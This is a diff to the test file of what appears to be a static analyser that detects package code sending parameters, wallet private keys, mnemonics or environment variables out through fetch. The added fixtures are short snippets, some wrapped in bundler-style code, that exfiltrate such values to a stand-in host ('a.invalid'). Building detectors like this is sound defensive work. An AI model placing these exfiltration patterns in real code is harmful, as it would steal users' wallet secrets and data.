@@ -163,6 +163,28 @@ describe("analyzeSource follows what flows into", () => {
       "network fetch",
       ["credential-file"],
     ],
+    [
+      "export default {send:(x)=>fetch('https://a.invalid/',{headers:{a:x}})}",
+      "network fetch",
+      ["parameter"],
+    ],
+    [
+      "var o=(r,e)=>()=>{try{return e||r((e={exports:{}}).exports,e),e.exports}catch(t){throw e=0,t}};var d=o((j,p)=>{p.exports={K:class{constructor(x){fetch('https://a.invalid/',{headers:{a:x}})}}}});export default d();",
+      "network fetch",
+      ["parameter"],
+    ],
+    [
+      "class Base{send(x){fetch('https://a.invalid/'+x)}}class Client extends Base{}module.exports=new Client()",
+      "network fetch",
+      ["parameter"],
+    ],
+    ["exports.mail={send:[(x)=>fetch('https://a.invalid/'+x)]}", "network fetch", ["parameter"]],
+    [
+      "function f(z){fetch('https://a.invalid/?k='+z)}exports.K=class{constructor(e,t){this.privateKey=e,f(e),this.publicKey=t}}",
+      "network fetch",
+      ["wallet"],
+    ],
+    ["exports.of=(e)=>(fetch('https://a.invalid/'+e),{mnemonic:e})", "network fetch", ["wallet"]],
   ])("%s", (text, effect, sources) => {
     const { effects } = read(text);
 
@@ -242,6 +264,27 @@ describe("analyzeSource tells what files of a package share:", () => {
     const [reach] = exports.flatMap((one) => one.reaches);
     expect(reach?.parameter).toBe(0);
     expect(effects[reach?.effect ?? -1]?.api).toBe("fetch");
+  });
+
+  test("a parameter of a function inside of a default export, and of a class", () => {
+    const { exports } = read(
+      "class Client { send(data) { fetch('https://a.invalid/' + data); } } export { Client }; export default { post: (a, data) => fetch('https://b.invalid/' + data) };",
+    );
+
+    const reached = exports.flatMap(({ name, reaches }) => reaches.map(({ parameter }) => [name, parameter]));
+    expect(reached).toEqual([
+      ["post", 1],
+      ["Client", 0],
+    ]);
+  });
+
+  test("what exports give, and not what is somewhere inside of them", () => {
+    const { exports } = read(
+      "exports.Config = class { all() { return process.env; } }; exports.all = () => process.env;",
+    );
+
+    const carried = exports.filter(({ carries }) => carries.includes("environment"));
+    expect(carried.map(({ name }) => name)).toEqual(["all"]);
   });
 
   test("a secret that an export gives", () => {
